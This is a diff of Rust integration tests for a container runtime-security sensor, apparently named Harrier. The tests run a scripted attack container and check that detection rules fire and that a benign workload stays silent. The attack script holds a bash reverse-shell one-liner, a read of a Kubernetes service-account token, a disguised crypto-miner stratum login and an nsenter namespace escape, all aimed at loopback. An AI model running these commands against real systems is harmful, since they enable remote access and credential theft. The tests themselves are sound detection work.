@@ -72,17 +72,24 @@ fn podman(dir: &Dir) -> Option<Podman> {
 impl Podman {
     /// Runs `script` in a new container named `name`; returns the container's full id.
     fn run(&self, dir: &Dir, name: &str, script: &str) -> String {
+        self.run_with(dir, name, &[], &["/bin/bash", "-c", script])
+    }
+
+    /// Runs `command` in a new container named `name` with the `extra` options of `podman
+    /// run`; returns the container's full id.
+    fn run_with(&self, dir: &Dir, name: &str, extra: &[&str], command: &[&str]) -> String {
         let cidfile = dir.path().join(format!("{name}.cid"));
         let out = Command::new("podman")
             .env("CONTAINERS_CONF", &self.conf)
             .args(["run", "--rm", "--network", "none", "--name", name])
             .args(["--label", "io.kubernetes.pod.name=web-1"])
             .args(["--label", "io.kubernetes.pod.namespace=prod"])
+            .args(extra)
             .arg("--cidfile")
             .arg(&cidfile)
             .arg("--rootfs")
             .arg(format!("{}:O", self.rootfs.display()))
-            .args(["/bin/bash", "-c", script])
+            .args(command)
             .output()
             .expect("run podman");
         assert!(
@@ -104,10 +111,19 @@ struct Running {
 }
 
 fn start(dir: &Dir, extra: &[&str], conf: Option<&Path>) -> Running {
-    let events = dir.path().join(format!(
-        "events-{}.jsonl",
-        extra.join("_").replace(',', "-")
-    ));
+    let name: String = extra
+        .join("_")
+        .chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || c == '-' {
+                c
+            } else {
+                '_'
+            }
+        })
+        .take(100)
+        .collect();
+    let events = dir.path().join(format!("events-{name}.jsonl"));
     // Other tests run alongside, opening many files: a queue deep enough that a debug build's
     // writer never drops what these tests look for.
     let mut cmd = dir.command(&[
@@ -185,6 +201,15 @@ fn in_container(v: &Value, cid: &str) -> bool {
     v["container"]["full_id"] == cid
 }
 
+/// `evt.arg.NAME` of a runtime event (`args` is a list of name, value pairs).
+fn arg<'a>(v: &'a Value, name: &str) -> Option<&'a str> {
+    v["args"]
+        .as_array()?
+        .iter()
+        .find(|p| p[0] == name)
+        .and_then(|p| p[1].as_str())
+}
+
 #[test]
 fn ebpf_sees_a_shell_file_read_and_connect_in_a_podman_container() {
     let Some(()) = can_run_sensor() else { return };
@@ -199,42 +224,44 @@ fn ebpf_sees_a_shell_file_read_and_connect_in_a_podman_container() {
     let cid = pm.run(
         &dir,
         &name,
-        // The container lives on a second, so the sensor asks podman about it before `--rm`.
-        "cat /etc/os-release > /dev/null; (echo x > /dev/tcp/127.0.0.1/3333) 2>/dev/null; sleep 1; exit 0",
+        // The container lives on, so the sensor asks podman about it before `--rm`.
+        "cat /etc/os-release > /dev/null; (echo x > /dev/tcp/127.0.0.1/3333) 2>/dev/null; sleep 3; exit 0",
     );
 
     let shell = sensor.wait_for("exec of bash in the container", |v| {
-        v["evt_type"] == "execve" && in_container(v, &cid) && v["proc"]["name"] == "bash"
+        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "bash"
     });
     let c = &shell["container"];
     assert_eq!(c["id"], &cid[..12]);
     assert_eq!(c["runtime"], "podman");
     assert_eq!(c["name"], name.as_str());
-    assert_eq!(c["pod_name"], "web-1");
-    assert_eq!(c["pod_namespace"], "prod");
-    assert_eq!(shell["context_incomplete"], false, "{shell}");
+    assert_eq!(shell["k8s"]["pod_name"], "web-1");
+    assert_eq!(shell["k8s"]["namespace"], "prod");
+    // Complete context: the key is absent (it is written only when true).
+    assert!(shell.get("context_incomplete").is_none(), "{shell}");
     assert!(
-        shell["proc"]["exepath"]
+        shell["process"]["exepath"]
             .as_str()
             .is_some_and(|p| p.ends_with("/bash")),
         "{shell}"
     );
-    assert_eq!(shell["proc"]["args"][0], "-c");
+    assert_eq!(shell["process"]["args"][0], "-c");
 
     let open = sensor.wait_for("open of /etc/os-release by cat", |v| {
-        v["evt_type"] == "openat"
+        v["type"] == "openat"
             && in_container(v, &cid)
             && v["fd"]["name"] == "/etc/os-release"
-            && v["proc"]["name"] == "cat"
+            && v["process"]["name"] == "cat"
     });
     assert!(open["res"].as_i64().is_some_and(|r| r >= 0), "{open}");
-    assert_eq!(open["proc"]["pname"], "bash", "{open}");
+    assert_eq!(open["process"]["ancestors"][0]["name"], "bash", "{open}");
 
     let connect = sensor.wait_for("connect to 127.0.0.1:3333", |v| {
-        v["evt_type"] == "connect" && in_container(v, &cid) && v["fd"]["name"] == "127.0.0.1:3333"
+        v["type"] == "connect" && in_container(v, &cid) && v["fd"]["name"] == "127.0.0.1:3333"
     });
-    assert_eq!(connect["fd"]["type"], "ipv4");
-    assert_eq!(connect["fd"]["addr"]["port"], 3333);
+    assert_eq!(connect["fd"]["kind"], "ipv4");
+    assert_eq!(connect["fd"]["server_ip"], "127.0.0.1");
+    assert_eq!(connect["fd"]["server_port"], 3333);
     // Nothing listens in the container's own network namespace.
     assert_eq!(connect["res"], -ECONNREFUSED, "{connect}");
 }
@@ -270,14 +297,9 @@ fn ebpf_sees_unshare_and_nsenter_on_the_host() {
             .success()
     );
     let unshare = sensor.wait_for("unshare(CLONE_NEWNET|CLONE_NEWUTS)", |v| {
-        v["evt_type"] == "unshare" && v["proc"]["name"] == "unshare"
+        v["type"] == "unshare" && v["process"]["name"] == "unshare"
     });
-    let flags: Vec<&str> = unshare["params"]["flags"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter_map(Value::as_str)
-        .collect();
+    let flags: Vec<&str> = arg(&unshare, "flags").unwrap_or("").split('|').collect();
     assert!(
         flags.contains(&"CLONE_NEWNET") && flags.contains(&"CLONE_NEWUTS"),
         "{unshare}"
@@ -286,17 +308,17 @@ fn ebpf_sees_unshare_and_nsenter_on_the_host() {
     assert_eq!(unshare["res"], 0);
 
     let setns = sensor.wait_for("setns by nsenter", |v| {
-        v["evt_type"] == "setns" && v["proc"]["name"] == "nsenter"
+        v["type"] == "setns" && v["process"]["name"] == "nsenter"
     });
-    assert_eq!(setns["params"]["nstype"][0], "CLONE_NEWNET", "{setns}");
+    assert_eq!(arg(&setns, "nstype"), Some("CLONE_NEWNET"), "{setns}");
     let exec = sensor.wait_for("exec of nsenter", |v| {
-        v["evt_type"] == "execve" && v["proc"]["exe"] == "nsenter"
+        v["type"] == "execve" && v["process"]["exe"] == "nsenter"
     });
     assert_eq!(
-        exec["proc"]["args"],
+        exec["process"]["args"],
         serde_json::json!(["--target", me, "--net", "true"])
     );
-    assert_eq!(exec["proc"]["ppid"], std::process::id());
+    assert_eq!(exec["process"]["ppid"], std::process::id());
 }
 
 #[test]
@@ -309,19 +331,18 @@ fn proc_connector_sees_a_shell_in_a_podman_container() {
     // The proc connector gives pids only: the shell lives long enough to be read from /proc.
     let cid = pm.run(&dir, &name, "sleep 1; exit 0");
     let shell = sensor.wait_for("exec of bash in the container", |v| {
-        v["evt_type"] == "execve" && in_container(v, &cid) && v["proc"]["name"] == "bash"
+        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "bash"
     });
-    assert_eq!(shell["source"], "proc_connector");
     assert_eq!(shell["container"]["id"], &cid[..12]);
     assert_eq!(shell["container"]["name"], name.as_str());
     assert_eq!(
-        shell["proc"]["args"],
+        shell["process"]["args"],
         serde_json::json!(["-c", "sleep 1; exit 0"])
     );
     let sleep = sensor.wait_for("exec of sleep in the container", |v| {
-        v["evt_type"] == "execve" && in_container(v, &cid) && v["proc"]["name"] == "sleep"
+        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "sleep"
     });
-    assert_eq!(sleep["proc"]["pname"], "bash", "{sleep}");
+    assert_eq!(sleep["process"]["ancestors"][0]["name"], "bash", "{sleep}");
 }
 
 #[test]
@@ -368,5 +389,376 @@ fn unknown_syscall_is_a_usage_error() {
         run.stderr.contains("unknown syscall `nosuch`"),
         "{}",
         run.stderr
+    );
+}
+
+// The attacks of issue 8, run in one container, and a benign workload in another; the sensor
+// evaluates what it sees with the built-in threat profiles and a rule file of the test's own
+// (no built-in profile flags a shell by itself: Falco's rule for it needs a terminal).
+
+const ATTACK: &str = r#"
+# The listener the miner and the reverse shell reach, on the container's own loopback.
+python3 /scenario/listen.py &
+sleep 0.5
+# Credential access: a service-account token, read with cat.
+mkdir -p /var/run/secrets/kubernetes.io/serviceaccount
+echo fake-token > /var/run/secrets/kubernetes.io/serviceaccount/token
+cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
+# Crypto mining: a program named xmrig talking to a stratum port.
+cp /bin/bash /tmp/xmrig
+/tmp/xmrig /scenario/stratum.sh
+# A namespace tool, in a container given CAP_SYS_ADMIN (entering a pid namespace, nsenter
+# forks and waits for its command).
+nsenter --target 1 --pid --uts -- sleep 0.3
+# A reverse shell (the listener holds the connection half a second).
+bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; sleep 0.3'
+# A package manager, waiting a moment for the dpkg lock another install holds (so that it
+# lives long enough for the proc connector, which gives a pid only, to read its command line).
+python3 -c 'import fcntl, time; f = open("/var/lib/dpkg/lock-frontend", "w"); fcntl.lockf(f, fcntl.LOCK_EX); time.sleep(0.6)' &
+sleep 0.2
+apt-get -o DPkg::Lock::Timeout=5 install -y nosuchpackage > /dev/null 2>&1 || true
+wait
+# Live on, so that the runtime still knows the container when a sensor behind on a loaded
+# machine asks about it.
+sleep 3
+"#;
+
+const STRATUM: &str = r#"exec 3<>/dev/tcp/127.0.0.1/3333
+echo '{"id":1,"method":"login","params":{"login":"x"}}' >&3
+exec 3>&-
+sleep 0.3
+"#;
+
+const LISTEN: &str = r#"
+import select, socket, time
+socks = []
+for port in (3333, 4444):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("127.0.0.1", port))
+    s.listen(1)
+    socks.append(s)
+while socks:
+    ready, _, _ = select.select(socks, [], [], 10)
+    if not ready:
+        break
+    for s in ready:
+        conn, _ = s.accept()
+        time.sleep(0.5)
+        conn.close()
+        s.close()
+        socks.remove(s)
+"#;
+
+const BENIGN: &str = r#"
+import subprocess, time
+for _ in range(5):
+    with open("/scenario/benign.py") as f:
+        f.read()
+    subprocess.run(["cat", "/etc/hostname"], stdout=subprocess.DEVNULL)
+    subprocess.run(["sleep", "0.1"])
+time.sleep(3)
+"#;
+
+const SHELL_RULE: &str = r#"
+- rule: Test Shell Spawned in Container
+  desc: A shell started in a container.
+  condition: evt.type = execve and container.id != host and proc.name in (bash, sh, dash)
+  output: Shell in a container (proc.cmdline=%proc.cmdline container.id=%container.id)
+  priority: NOTICE
+  tags: [test]
+"#;
+
+/// What each attack must raise, and whether its condition needs only exec events.
+const EXPECTED: &[(&str, bool)] = &[
+    ("Test Shell Spawned in Container", true),
+    (
+        "Harrier Service Account Token Read by Unexpected Process",
+        false,
+    ),
+    ("Harrier Crypto Miner Executed", true),
+    ("Harrier Namespace Tool Run in Container", true),
+    ("Harrier Namespace Entered from Container", false),
+    ("Harrier Reverse Shell Command Executed", true),
+    ("Harrier Package Manager Run in Container", true),
+];
+
+fn read_alerts(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect()
+}
+
+fn of_container<'a>(alerts: &'a [Value], cid: &str) -> Vec<&'a Value> {
+    alerts
+        .iter()
+        .filter(|a| a["output_fields"]["container.id"] == cid[..12])
+        .collect()
+}
+
+/// Sends `signal` to the sensor and waits (at most 60 s: detaching takes seconds) for it to
+/// exit; returns its status and what it wrote on stderr after `ready`.
+fn stop_with(sensor: &mut Running, signal: &str) -> std::process::ExitStatus {
+    let pid = sensor.child.id().to_string();
+    assert!(
+        Command::new("kill")
+            .args([&format!("-{signal}"), &pid])
+            .status()
+            .unwrap()
+            .success()
+    );
+    let until = Instant::now() + Duration::from_secs(60);
+    loop {
+        if let Some(status) = sensor.child.try_wait().unwrap() {
+            return status;
+        }
+        assert!(
+            Instant::now() < until,
+            "the sensor did not stop on {signal}"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// Runs the attack and the benign containers under a sensor started with `collector`, stops it
+/// with `signal`, and returns (attack alerts, benign alerts, every alert, paths).
+struct Outcome {
+    alerts: Vec<Value>,
+    attack: String,
+    benign: String,
+    events: PathBuf,
+    alerts_path: PathBuf,
+    rules: PathBuf,
+    stats: Value,
+    /// The alerts the webhook received (eBPF run).
+    posted: Vec<Value>,
+}
+
+fn attack_and_benign(dir: &Dir, pm: &Podman, collector: &str, signal: &str) -> Outcome {
+    let scenario = dir.path().join(format!("scenario-{collector}"));
+    std::fs::create_dir_all(&scenario).unwrap();
+    for (name, text) in [
+        ("attack.sh", ATTACK),
+        ("stratum.sh", STRATUM),
+        ("listen.py", LISTEN),
+        ("benign.py", BENIGN),
+    ] {
+        std::fs::write(scenario.join(name), text).unwrap();
+    }
+    let rules = dir.write("shell-rule.yaml", SHELL_RULE);
+    let alerts_path = dir.path().join(format!("alerts-{collector}.jsonl"));
+    let stats_path = dir.path().join(format!("stats-{collector}.json"));
+    let mut extra = vec![
+        "--collector",
+        collector,
+        "--rules",
+        rules.to_str().unwrap(),
+        "--alerts",
+        alerts_path.to_str().unwrap(),
+        "--stats",
+        stats_path.to_str().unwrap(),
+        "--hostname",
+        "node-it",
+    ];
+    let baselines = dir.path().join(format!("baselines-{collector}"));
+    let baselines_arg = baselines.to_str().unwrap().to_owned();
+    let (url, bodies) = crate::watch::webhook_receiver();
+    if collector == "ebpf" {
+        extra.extend(["--syscalls", "openat,connect,setns", "--webhook", &url]);
+    } else {
+        // Baselines learn as in `harrier replay --baselines` (nothing is locked: no drift).
+        extra.extend(["--baselines", &baselines_arg]);
+    }
+    let mut sensor = start(dir, &extra, Some(&pm.conf));
+    let volume = format!("{}:/scenario:ro", scenario.display());
+    let tag = format!("{collector}-{}", std::process::id());
+    let attack = pm.run_with(
+        dir,
+        &format!("harrier-attack-{tag}"),
+        &["-v", &volume, "--cap-add", "SYS_ADMIN"],
+        &["/bin/bash", "/scenario/attack.sh"],
+    );
+    let benign = pm.run_with(
+        dir,
+        &format!("harrier-benign-{tag}"),
+        &["-v", &volume],
+        &["/usr/bin/python3", "/scenario/benign.py"],
+    );
+    // Wait for the alerts of the attacks this collector can see, then stop.
+    let want: Vec<&str> = EXPECTED
+        .iter()
+        .filter(|(_, exec_only)| *exec_only || collector == "ebpf")
+        .map(|(r, _)| *r)
+        .collect();
+    let until = Instant::now() + Duration::from_secs(30);
+    loop {
+        let alerts = read_alerts(&alerts_path);
+        let mine = of_container(&alerts, &attack);
+        if want.iter().all(|w| mine.iter().any(|a| a["rule"] == *w)) || Instant::now() > until {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    let status = stop_with(&mut sensor, signal);
+    assert!(
+        status.success(),
+        "the sensor exited with {status} on {signal}"
+    );
+    let stats: Value =
+        serde_json::from_str(&std::fs::read_to_string(&stats_path).expect("--stats written"))
+            .unwrap();
+    let posted = bodies
+        .try_iter()
+        .map(|b| serde_json::from_str(&b).unwrap_or_else(|e| panic!("{e}: {b}")))
+        .collect();
+    Outcome {
+        posted,
+        alerts: read_alerts(&alerts_path),
+        attack,
+        benign,
+        events: sensor.events.clone(),
+        alerts_path,
+        rules,
+        stats,
+    }
+}
+
+fn check_alerts(o: &Outcome, collector: &str) {
+    let mine = of_container(&o.alerts, &o.attack);
+    let rules: Vec<&str> = mine.iter().filter_map(|a| a["rule"].as_str()).collect();
+    for (rule, exec_only) in EXPECTED {
+        if !exec_only && collector != "ebpf" {
+            continue;
+        }
+        let a = mine.iter().find(|a| a["rule"] == *rule).unwrap_or_else(|| {
+            panic!("{collector}: no `{rule}` for the attack container; its alerts: {rules:?}")
+        });
+        assert_eq!(a["hostname"], "node-it", "{a}");
+        assert_eq!(a["output_fields"]["k8s.pod.name"], "web-1", "{a}");
+        assert_eq!(a["output_fields"]["k8s.ns.name"], "prod", "{a}");
+        assert!(
+            a["time"].as_str().is_some() && a["priority"].as_str().is_some(),
+            "{a}"
+        );
+    }
+    // The benign workload was seen (its python3, and with eBPF its short-lived `cat`s, are in
+    // the events), and raised nothing.
+    let events = std::fs::read_to_string(&o.events).unwrap();
+    let execs: Vec<Value> = events
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v["type"] == "execve" && in_container(v, &o.benign))
+        .collect();
+    let seen = |name: &str| execs.iter().any(|v| v["process"]["name"] == name);
+    assert!(
+        seen("python3") && (collector != "ebpf" || seen("cat")),
+        "{collector}: the benign container's execs are not all in {}",
+        o.events.display()
+    );
+    let benign = of_container(&o.alerts, &o.benign);
+    assert!(
+        benign.is_empty(),
+        "{collector}: the benign workload raised {benign:?}"
+    );
+    assert!(
+        o.stats["engine"]["evaluated"].as_u64().unwrap() > 0,
+        "{}",
+        o.stats
+    );
+    // The first events of each container waited for its metadata, and got it.
+    assert!(
+        o.stats["late_context"]["completed"].as_u64().unwrap() > 0,
+        "{}",
+        o.stats
+    );
+    assert!(o.stats["engine"]["alerts"].as_u64().unwrap() >= mine.len() as u64);
+}
+
+#[test]
+fn ebpf_attacks_raise_profile_alerts_and_replay_reproduces_them() {
+    let Some(()) = can_run_sensor() else { return };
+    let dir = Dir::new();
+    let Some(pm) = podman(&dir) else { return };
+    let o = attack_and_benign(&dir, &pm, "ebpf", "TERM");
+    check_alerts(&o, "ebpf");
+    let mine = of_container(&o.alerts, &o.attack);
+    let miner = mine
+        .iter()
+        .find(|a| a["rule"] == "Harrier Crypto Miner Executed")
+        .unwrap();
+    assert_eq!(miner["output_fields"]["proc.name"], "xmrig", "{miner}");
+    // From the container's own /etc/passwd.
+    assert_eq!(miner["output_fields"]["user.name"], "root", "{miner}");
+    let token = mine
+        .iter()
+        .find(|a| a["rule"] == "Harrier Service Account Token Read by Unexpected Process")
+        .unwrap();
+    assert_eq!(token["output_fields"]["proc.name"], "cat", "{token}");
+    // The miner's connection to 3333 was seen (the pool-port rule leaves loopback out).
+    let events = std::fs::read_to_string(&o.events).unwrap();
+    assert!(
+        events
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .any(|v| v["type"] == "connect"
+                && in_container(&v, &o.attack)
+                && v["process"]["name"] == "xmrig"
+                && v["fd"]["server_port"] == 3333),
+        "no connect by xmrig to port 3333 in {}",
+        o.events.display()
+    );
+
+    // Every alert was also posted to the webhook, as written.
+    let mut posted: Vec<String> = o.posted.iter().map(Value::to_string).collect();
+    posted.sort();
+    let mut written: Vec<String> = o.alerts.iter().map(Value::to_string).collect();
+    written.sort();
+    assert_eq!(
+        posted, written,
+        "the webhook did not get the alerts written"
+    );
+
+    // `harrier replay` of the events file raises exactly the alerts of the live run.
+    let replayed = dir.path().join("replayed.jsonl");
+    let run = dir.run(&[
+        "replay",
+        o.events.to_str().unwrap(),
+        "--rules",
+        o.rules.to_str().unwrap(),
+        "--hostname",
+        "node-it",
+        "--output",
+        replayed.to_str().unwrap(),
+    ]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let sorted = |p: &Path| {
+        let mut v: Vec<String> = read_alerts(p).iter().map(Value::to_string).collect();
+        v.sort();
+        v
+    };
+    let live = sorted(&o.alerts_path);
+    assert!(!live.is_empty());
+    assert_eq!(live, sorted(&replayed), "replay differs from the live run");
+}
+
+#[test]
+fn proc_connector_attacks_raise_the_exec_based_alerts() {
+    let Some(()) = can_run_sensor() else { return };
+    let dir = Dir::new();
+    let Some(pm) = podman(&dir) else { return };
+    let o = attack_and_benign(&dir, &pm, "proc-connector", "INT");
+    check_alerts(&o, "proc-connector");
+    // The workloads' baselines were written back when the sensor stopped.
+    let written: Vec<String> = std::fs::read_dir(dir.path().join("baselines-proc-connector"))
+        .unwrap()
+        .filter_map(|e| std::fs::read_to_string(e.ok()?.path()).ok())
+        .collect();
+    assert!(
+        written
+            .iter()
+            .any(|b| b.contains("web-1") && b.contains("learning")),
+        "{written:?}"
     );
 }
